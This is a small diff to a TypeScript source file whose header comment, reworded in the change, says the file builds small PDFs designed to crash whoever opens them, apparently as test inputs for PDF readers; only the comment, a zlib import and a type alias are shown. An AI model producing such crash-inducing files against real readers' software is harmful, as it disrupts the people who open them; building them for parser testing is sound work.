@@ -1,4 +1,4 @@
-// PDFs that are made to bring down whoever reads them, each small, and each a way of its own.
+// PDFs that are made to bring down anyone who reads them, each small, and each a way of its own.
 import { constants, deflateRawSync, deflateSync } from "node:zlib";
 
 type Part = string | Buffer;
